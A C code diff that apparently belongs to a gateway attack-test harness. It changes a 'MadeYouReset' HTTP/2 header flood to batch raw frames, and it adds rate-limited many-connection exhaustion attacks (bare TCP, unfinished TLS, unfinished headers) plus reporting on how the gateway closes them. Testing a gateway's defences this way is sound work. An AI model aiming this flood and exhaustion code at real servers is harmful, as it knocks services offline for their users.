@@ -307,7 +307,14 @@ static int mk_made_you_reset(int i, const ts_attack_env_t *env)
         {(uint8_t *)(i % 2 ? "connection" : "content-length"),
          (uint8_t *)(i % 2 ? "keep-alive" : "10"), i % 2 ? 10 : 14, i % 2 ? 10 : 2, 0},
     };
-    return ts_h2raw_headers(&attacker, id, nv, 7, i % 2 ? 0 : TS_H2RAW_END_STREAM);
+    /* Queued, not flushed per request: flood() writes in batches and reads
+     * between them, like the other floods. */
+    static uint8_t block[1024];
+    ssize_t n = ts_h2raw_hpack(&attacker, nv, 7, block, sizeof block);
+    if (n < 0)
+        return -1;
+    uint8_t flags = NGHTTP2_FLAG_END_HEADERS | (i % 2 ? 0 : NGHTTP2_FLAG_END_STREAM);
+    return ts_h2raw_queue_frame(&attacker, NGHTTP2_HEADERS, flags, id, block, (size_t)n);
 }
 
 static int attack_made_you_reset(const ts_attack_env_t *env, ts_attack_result_t *res)
@@ -654,8 +661,15 @@ typedef struct many_conn {
     int fd;
     enum conn_state st;
     SSL *ssl;
-    int64_t closed_ns;
+    int was_held;        /* reached C_HOLD */
+    int64_t start_ns, closed_ns;
 } many_conn_t;
+
+static int many_cmp(const void *x, const void *y)
+{
+    int64_t a = *(const int64_t *)x, b = *(const int64_t *)y;
+    return a < b ? -1 : a > b;
+}
 
 static void raise_nofile(void)
 {
@@ -713,13 +727,14 @@ static void many_close(many_conn_t *c, int64_t now)
 {
     if (c->st == C_CLOSED)
         return;
+    c->was_held = c->st == C_HOLD;
     c->st = C_CLOSED;
     c->closed_ns = now;
 }
 
 static int attack_many(const ts_attack_env_t *env, ts_attack_result_t *res, enum many_mode mode)
 {
-    enum { INFLIGHT = 256, PER_SOURCE = 10 };
+    enum { INFLIGHT = 1024, PER_SOURCE = 10 };
     size_t n = env->conns ? env->conns : 100;
     raise_nofile();
     many_conn_t *cs = calloc(n, sizeof *cs);
@@ -743,14 +758,17 @@ static int attack_many(const ts_attack_env_t *env, ts_attack_result_t *res, enum
         return -1;
     }
     size_t per = mode == MANY_TCP ? 0 : PER_SOURCE;
-    int64_t t0 = ts_now_ns(), open_end = ts_deadline(ts_ms(30000));
+    int64_t t0 = ts_now_ns(), open_end = ts_deadline(ts_ms(40000));
     size_t started = 0, pending = 0, held = 0, failed = 0, closed = 0;
-    int64_t hold_start_ns = 0;
     struct epoll_event evs[256];
     /* Phase 1: open every connection (at most INFLIGHT unfinished at once). */
     while ((started < n || pending) && ts_remaining_ms(open_end) > 0) {
-        while (started < n && pending < INFLIGHT) {
+        int64_t allowed = env->open_per_s
+                              ? (ts_now_ns() - t0) * (int64_t)env->open_per_s / 1000000000 + 1
+                              : (int64_t)n;
+        while (started < n && pending < INFLIGHT && (int64_t)started < allowed) {
             many_conn_t *c = &cs[started];
+            c->start_ns = ts_now_ns();
             c->fd = many_socket(env, started, per);
             started++;
             if (c->fd < 0) {
@@ -764,7 +782,7 @@ static int attack_many(const ts_attack_env_t *env, ts_attack_result_t *res, enum
             epoll_ctl(ep, EPOLL_CTL_ADD, c->fd, &e);
             pending++;
         }
-        int k = epoll_wait(ep, evs, 256, 50);
+        int k = epoll_wait(ep, evs, 256, env->open_per_s ? 1 : 50);
         int64_t now = ts_now_ns();
         for (int j = 0; j < k; j++) {
             many_conn_t *c = &cs[evs[j].data.u64];
@@ -850,11 +868,9 @@ static int attack_many(const ts_attack_env_t *env, ts_attack_result_t *res, enum
             }
         }
     }
-    hold_start_ns = ts_now_ns();
-    int64_t open_ms = (hold_start_ns - t0) / 1000000;
-    size_t closed_while_opening = closed;
+    int64_t open_ms = (ts_now_ns() - t0) / 1000000;
     /* Phase 2: wait until the gateway has closed every connection it held. */
-    int64_t hold_end = ts_deadline(ts_ms(CUT_WAIT_MS + 5000));
+    int64_t hold_end = ts_deadline(ts_ms(45000)); /* the slowest timeout (30 s), and some */
     while (closed + failed < started && ts_remaining_ms(hold_end) > 0) {
         int k = epoll_wait(ep, evs, 256, 50);
         int64_t now = ts_now_ns();
@@ -881,23 +897,65 @@ static int attack_many(const ts_attack_env_t *env, ts_attack_result_t *res, enum
             }
         }
     }
-    int64_t first = INT64_MAX, last = 0;
-    for (size_t i = 0; i < started; i++)
-        if (cs[i].closed_ns && cs[i].fd >= 0) {
-            int64_t d = cs[i].closed_ns - t0;
-            first = d < first ? d : first;
-            last = d > last ? d : last;
+    /* Closed within a second of its start: refused at accept (max_connections,
+     * a source's limits); later: held until a timeout. */
+    size_t at_once = 0, timed = 0, open_left = 0;
+    int64_t tmin = INT64_MAX, tmax = 0, last = 0;
+    for (size_t i = 0; i < started; i++) {
+        many_conn_t *c = &cs[i];
+        if (c->fd < 0)
+            continue;
+        if (c->st != C_CLOSED) {
+            open_left++;
+            continue;
         }
+        if (!c->closed_ns)
+            continue; /* failed to connect */
+        int64_t life = c->closed_ns - c->start_ns;
+        last = c->closed_ns - t0 > last ? c->closed_ns - t0 : last;
+        if (life < 1000000000) {
+            at_once++;
+        } else {
+            timed++;
+            tmin = life < tmin ? life : tmin;
+            tmax = life > tmax ? life : tmax;
+        }
+    }
+    /* The most connections held at once: a sweep over start and close times. */
+    size_t peak = 0;
+    {
+        int64_t *ev = malloc(2 * started * sizeof *ev);
+        size_t ne = 0;
+        for (size_t i = 0; ev && i < started; i++) {
+            if (cs[i].fd < 0 || !cs[i].closed_ns || !cs[i].was_held)
+                continue;
+            ev[ne++] = cs[i].start_ns * 2 + 1;   /* odd: an open */
+            ev[ne++] = cs[i].closed_ns * 2;      /* even: a close, first on a tie */
+        }
+        if (ev) {
+            qsort(ev, ne, sizeof *ev, many_cmp);
+            size_t cur = 0;
+            for (size_t i = 0; i < ne; i++) {
+                cur = (ev[i] & 1) ? cur + 1 : cur - 1;
+                peak = cur > peak ? cur : peak;
+            }
+        }
+        free(ev);
+    }
     res->sent = started;
-    res->cut = closed + failed >= started;
+    res->cut = open_left == 0 && closed + failed >= started;
     res->cut_ms = last / 1000000;
     static const char *const what[] = {"bare TCP", "TLS never finished",
                                        "headers never finished"};
+    char rate[32] = "as fast as they went";
+    if (env->open_per_s)
+        snprintf(rate, sizeof rate, "at %u/s", env->open_per_s);
     snprintf(res->how, sizeof res->how,
-             "%zu connections (%s): %zu held, %zu closed while opening (limits), all closed "
-             "by %.1f s (first %.1f s); %zu failed to connect; opening took %.1f s",
-             started, what[mode], held, closed_while_opening, last / 1e9,
-             first == INT64_MAX ? 0.0 : first / 1e9, failed, open_ms / 1000.0);
+             "%zu connections (%s) opened %s in %.1f s: %zu closed at once (limits), %zu at "
+             "a timeout %.1f-%.1f s after opening, %zu still open, %zu failed to connect; "
+             "at most %zu held at once",
+             started, what[mode], rate, open_ms / 1000.0, at_once, timed,
+             tmin == INT64_MAX ? 0.0 : tmin / 1e9, tmax / 1e9, open_left, failed, peak);
     for (size_t i = 0; i < started; i++) {
         SSL_free(cs[i].ssl);
         if (cs[i].fd >= 0)
